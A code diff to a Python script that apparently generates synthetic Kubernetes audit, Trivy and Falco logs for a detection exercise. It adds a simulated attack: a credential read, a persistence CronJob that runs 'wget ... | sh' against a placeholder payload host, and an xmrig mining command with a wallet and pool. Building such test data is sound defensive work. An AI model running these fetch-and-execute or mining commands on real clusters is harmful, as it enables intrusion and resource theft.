@@ -223,6 +223,7 @@ CORE_GROUPS = {  # resource -> (apiGroup, apiVersion)
     "selfsubjectrulesreviews": ("authorization.k8s.io", "v1"),
     "customresourcedefinitions": ("apiextensions.k8s.io", "v1"),
     "certificatesigningrequests": ("certificates.k8s.io", "v1"),
+    "cronjobs": ("batch", "v1"), "jobs": ("batch", "v1"),
 }
 
 
@@ -1487,6 +1488,131 @@ def late_noise():
         S.items[i] = (event + rng.randrange(1_000_000, 9_500_000) * 1000, event, seq, text, note)
 
 
+# ============================================================================================
+# Supply chain and persistence (added with the scan-to-deploy rules). These records draw from
+# their own random stream, after everything above, so the records above stay byte-identical.
+# ============================================================================================
+
+
+def trivy_report(t, image, tag, digest, image_id, vulns):
+    """A Trivy JSON report (`trivy image -f json`, SchemaVersion 2) as CI ships it."""
+    return {
+        "SchemaVersion": 2, "CreatedAt": iso_ns(t), "ArtifactName": f"{image}:{tag}",
+        "ArtifactType": "container_image",
+        "Metadata": {"OS": {"Family": "debian", "Name": "12.4"}, "ImageID": image_id,
+                     "DiffIDs": ["sha256:" + hexid(64), "sha256:" + hexid(64)],
+                     "RepoTags": [f"{image}:{tag}"], "RepoDigests": [f"{image}@{digest}"],
+                     "ImageConfig": {"architecture": "amd64", "os": "linux"}},
+        "Results": vulns,
+    }
+
+
+def replicaset_pod(t, namespace, deployment, image_ref, port):
+    """The replicaset controller creates one pod of a Deployment whose image is pinned by digest."""
+    rs_user = sa_user("kube-system", "replicaset-controller")
+    rs_ua = (f"kube-controller-manager/{K8S_VERSION} (linux/amd64) kubernetes/{K8S_COMMIT}/"
+             "system:serviceaccount:kube-system:replicaset-controller")
+    rs_reason = rbac_reason("ClusterRoleBinding", "system:controller:replicaset-controller",
+                            "system:controller:replicaset-controller",
+                            'ServiceAccount "replicaset-controller/kube-system"')
+    rs_hash = alnum(10)
+    rs_name = f"{deployment}-{rs_hash}"
+    pod_name = rs_name + "-" + alnum(5)
+    owner = {"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": rs_name, "uid": new_uuid(),
+             "controller": True, "blockOwnerDeletion": True}
+    req = pod_object(None, namespace, [container_spec(deployment, image_ref, ports=[port])],
+                     labels={"app": deployment, "pod-template-hash": rs_hash}, owner=owner,
+                     service_account=deployment, generate_name=rs_name + "-")
+    resp = pod_response(req, pod_name, t)
+    k8s_event(t, "create", rs_user, CONTROL_PLANE_IP, rs_ua, "pods", namespace, code=201,
+              level="RequestResponse", request_object=req, response_object=resp, reason=rs_reason,
+              extra_annotations={"pod-security.kubernetes.io/enforce-policy": "restricted:latest"},
+              note="supply-chain:deploy")
+    node = list(NODES)[len(deployment) % len(NODES)]
+    tb = t + 14_000_000 + rng.randrange(0, 9000) * 1000
+    k8s_event(tb, "create", SCHED_USER, CONTROL_PLANE_IP,
+              f"kube-scheduler/{K8S_VERSION} (linux/amd64) kubernetes/{K8S_COMMIT}/scheduler",
+              "pods", namespace, pod_name, subresource="binding", code=201,
+              reason=rbac_reason("ClusterRoleBinding", "system:kube-scheduler",
+                                 "system:kube-scheduler", 'User "system:kube-scheduler"'))
+    return pod_name
+
+
+def supply_chain_and_persistence():
+    global rng
+    saved, rng = rng, random.Random(SEED + 1)
+    try:
+        # (a) 10:01 CI scans the payments API image with Trivy: one CRITICAL (xz backdoor).
+        api = f"{ECR}/payments/api"
+        api_digest = "sha256:" + hexid(64)
+        vulns = [
+            {"Target": f"{api}:2.7.0 (debian 12.4)", "Class": "os-pkgs", "Type": "debian",
+             "Vulnerabilities": [
+                 {"VulnerabilityID": "CVE-2024-3094", "PkgName": "xz-utils",
+                  "InstalledVersion": "5.6.0-0.2", "FixedVersion": "5.6.1+really5.4.5-1",
+                  "Status": "fixed", "SeveritySource": "nvd",
+                  "PrimaryURL": "https://avd.aquasec.com/nvd/cve-2024-3094",
+                  "Title": "xz: malicious code in distributed source", "Severity": "CRITICAL"},
+                 {"VulnerabilityID": "CVE-2023-4806", "PkgName": "libc6",
+                  "InstalledVersion": "2.36-9+deb12u3", "Status": "affected",
+                  "Severity": "MEDIUM"}]},
+            {"Target": "app/requirements.txt", "Class": "lang-pkgs", "Type": "pip",
+             "Vulnerabilities": [
+                 {"VulnerabilityID": "CVE-2024-1135", "PkgName": "gunicorn",
+                  "InstalledVersion": "21.2.0", "FixedVersion": "22.0.0", "Severity": "HIGH"}]},
+        ]
+        t_scan = ns(61, 37.214508331)
+        S.add(t_scan, trivy_report(t_scan, api, "2.7.0", api_digest, "sha256:" + hexid(64), vulns),
+              note="supply-chain:scan")
+        # ... and it ships anyway: 10:16 the new ReplicaSet's pod in prod-payments, by digest.
+        replicaset_pod(ns(76, 8.402), "prod-payments", "payments-api", f"{api}@{api_digest}", 8080)
+
+        # (b) 10:21 a second image reaches prod-payments from a pipeline that skipped the scan.
+        scorer = f"{ECR}/payments/fraud-scorer"
+        replicaset_pod(ns(81, 44.117), "prod-payments", "fraud-scorer",
+                       f"{scorer}@sha256:{hexid(64)}", 9090)
+
+        # (c) 10:17 the attacker, cluster-admin since 09:46, comes back: port-forward to the
+        # ledger database, then reads its credentials.
+        k8s_event(ns(77, 12.530), "create", ALICE, ATTACKER_IP, ATTACKER_KUBECTL, "pods",
+                  "payments", "ledger-db-0", subresource="portforward", code=101,
+                  level="Request", stage="ResponseStarted",
+                  reason=rbac_reason("ClusterRoleBinding", "dev-alice-admin", "cluster-admin",
+                                     'User "dev-alice"'), note="attack:port-forward")
+        k8s_event(ns(78, 40.661), "get", ALICE, ATTACKER_IP, ATTACKER_KUBECTL, "secrets",
+                  "payments", "ledger-db-credentials",
+                  reason=rbac_reason("ClusterRoleBinding", "dev-alice-admin", "cluster-admin",
+                                     'User "dev-alice"'), note="attack:port-forward")
+
+        # (d) 10:19 persistence: a CronJob in payments whose job mines (10:25).
+        cron = {"kind": "CronJob", "apiVersion": "batch/v1",
+                "metadata": {"name": "ledger-compaction", "namespace": "payments",
+                             "creationTimestamp": None},
+                "spec": {"schedule": "*/5 * * * *", "concurrencyPolicy": "Forbid",
+                         "jobTemplate": {"spec": {"template": {"spec": {
+                             "containers": [container_spec(
+                                 "compaction", "docker.io/library/alpine:3.19",
+                                 command=["sh", "-c", f"wget -qO- http://{PAYLOAD_HOST}/c.sh | sh"])],
+                             "restartPolicy": "OnFailure"}}}}}}
+        k8s_event(ns(79, 31.882), "create", ALICE, ATTACKER_IP, ATTACKER_KUBECTL, "cronjobs",
+                  "payments", "ledger-compaction", code=201, level="RequestResponse",
+                  request_object=cron,
+                  reason=rbac_reason("ClusterRoleBinding", "dev-alice-admin", "cluster-admin",
+                                     'User "dev-alice"'), note="attack:cronjob")
+        job = dict(ns="payments", pod="ledger-compaction-29561545-" + alnum(5), container="compaction",
+                   repo="docker.io/library/alpine", tag="3.19", node="ip-10-0-34-112",
+                   ip="10.0.34.201", cid=hexid(12))
+        wallet = "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"
+        f = proc_fields("xmrig", "/tmp/.c/xmrig",
+                        f"xmrig -o stratum+tcp://{POOL_IP}:3333 -u {wallet} -p cron01 -B", "sh")
+        falco_event(ns(85, 4.228), "Detect crypto miners using the Stratum protocol", "Critical",
+                    job, "Possible miner running (" + proc_message(f), f,
+                    ["maturity_stable", "host", "container", "process", "mitre_impact", "T1496"],
+                    note="attack:cronjob")
+    finally:
+        rng = saved
+
+
 def build():
     background_control_plane()
     background_kubelets()
@@ -1501,6 +1627,7 @@ def build():
     attack_aws()
     malformed_line()
     late_noise()
+    supply_chain_and_persistence()
     return "\n".join(S.lines()) + "\n"
 
 
